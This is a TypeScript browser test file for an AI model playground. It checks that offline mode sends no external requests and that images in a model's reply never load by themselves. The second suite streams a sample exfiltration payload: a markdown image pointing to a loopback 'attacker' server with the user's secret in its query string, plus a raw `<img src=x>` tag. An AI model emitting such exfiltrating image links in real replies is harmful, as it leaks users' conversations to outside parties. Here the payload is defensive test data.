// What leaves the page: offline, nothing beyond the local replay whatever the token; a model's reply loads
// nothing by itself (its images become links the person may open).
import { createServer } from "node:http";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { accessibilityViolations, playgroundWithFakeRouter, sidewaysOverflow } from "./browser.js";
import { listenOnLoopback } from "./loopback.js";

const env = playgroundWithFakeRouter();

/** Every address the page asks for, from its first request on. */
function requestsOf(page: Page): string[] {
	const urls: string[] = [];
	page.on("request", (request) => urls.push(request.url()));
	return urls;
}

const LAYOUTS = [
	{ width: 1280, colorScheme: "light" },
	{ width: 390, colorScheme: "dark" },
	{ width: 390, colorScheme: "light" },
	{ width: 1280, colorScheme: "dark" },
] as const;

describe("offline mode sends nothing beyond the local replay", { timeout: 60_000 }, () => {
	const PROVIDER_KEY = "sk-test-provider-key";

	it("a chat with a provider key in settings is answered by the replay, and its receipt says recorded", async () => {
		const { page, errors } = await env.session.newPage({ settings: { mode: "offline", token: PROVIDER_KEY } });
		const urls = requestsOf(page);
		await page.goto(`${env.session.url}#/run/mistralai/Mistral-7B-Instruct-v0.2`);
		await page.locator("button[type=submit]:enabled", { hasText: "Send" }).waitFor();
		await page.getByLabel("Message").press("Enter");
		await page
			.locator('.turns > li[data-role="assistant"]:not([data-pending]), [role="alert"], [data-testid="run-notice"]')
			.first()
			.waitFor();
		expect(urls.filter((url) => !url.startsWith(env.session.url))).toEqual([]);
		expect(await page.locator('[role="alert"]').allTextContents()).toEqual([]);
		await expect.poll(() => page.getByTestId("stats").textContent()).toContain("recorded answer");
		expect(errors).toEqual([]);
		await page.close();
	});

	it("text classification with a provider key in settings stays on the replay too", async () => {
		const { page, errors } = await env.session.newPage({ settings: { mode: "offline", token: PROVIDER_KEY } });
		const urls = requestsOf(page);
		await page.goto(`${env.session.url}#/run/distilbert/distilbert-base-uncased-finetuned-sst-2-english`);
		await page.locator(".chip-button").first().waitFor();
		await page.getByRole("button", { name: "Run", exact: true }).click();
		await page.locator('[aria-label="Result"], [role="alert"], [data-testid="run-notice"]').first().waitFor();
		expect(urls.filter((url) => !url.startsWith(env.session.url))).toEqual([]);
		expect(errors).toEqual([]);
		await page.close();
	});
});

describe("a model's reply loads nothing by itself", { timeout: 60_000 }, () => {
	const hits: string[] = [];
	let attacker = "";
	const server = createServer((req, res) => {
		hits.push(req.url ?? "");
		res.writeHead(200, { "content-type": "image/png" }).end();
	});
	beforeAll(async () => {
		attacker = await listenOnLoopback(server);
	});
	afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

	it.each(LAYOUTS)(
		"a streamed markdown image becomes a link, never a request ($width px, $colorScheme)",
		async (layout) => {
			hits.length = 0;
			const { page, errors } = await env.session.newPage({
				...layout,
				settings: { mode: "online", token: "hf_test", hubUrl: env.fake.hubUrl, routerUrl: env.fake.routerUrl },
			});
			await page.goto(`${env.session.url}#/run/mistralai/Mistral-7B-Instruct-v0.2`);
			// The image's address grows with each chunk, as a leak of the conversation would.
			env.fake.reply({
				chunks: ["Here is the chart: ![chart](", `${attacker}/leak?c=`, "my-secret", "-plan) and ", "<img src=x>"],
				delayMs: 30,
			});
			await page.getByLabel("Message").fill("my-secret-plan");
			await page.getByLabel("Message").press("Enter");
			const reply = page.locator('.turns > li[data-role="assistant"]:not([data-pending])').last();
			await reply.waitFor();
			const link = reply.getByRole("link", { name: /^Image: chart \(127\.0\.0\.1:\d+\)$/ });
			expect(await link.getAttribute("href")).toBe(`${attacker}/leak?c=my-secret-plan`);
			expect(await link.getAttribute("rel")).toBe("noopener noreferrer");
			expect(await page.locator(".turns img").count()).toBe(0);
			expect(await reply.textContent()).toContain("<img src=x>");
			await page.waitForTimeout(200);
			expect(hits).toEqual([]);
			expect(await sidewaysOverflow(page)).toBe(0);
			expect(await accessibilityViolations(page)).toEqual([]);
			expect(errors).toEqual([]);
			await page.close();
		},
	);
});
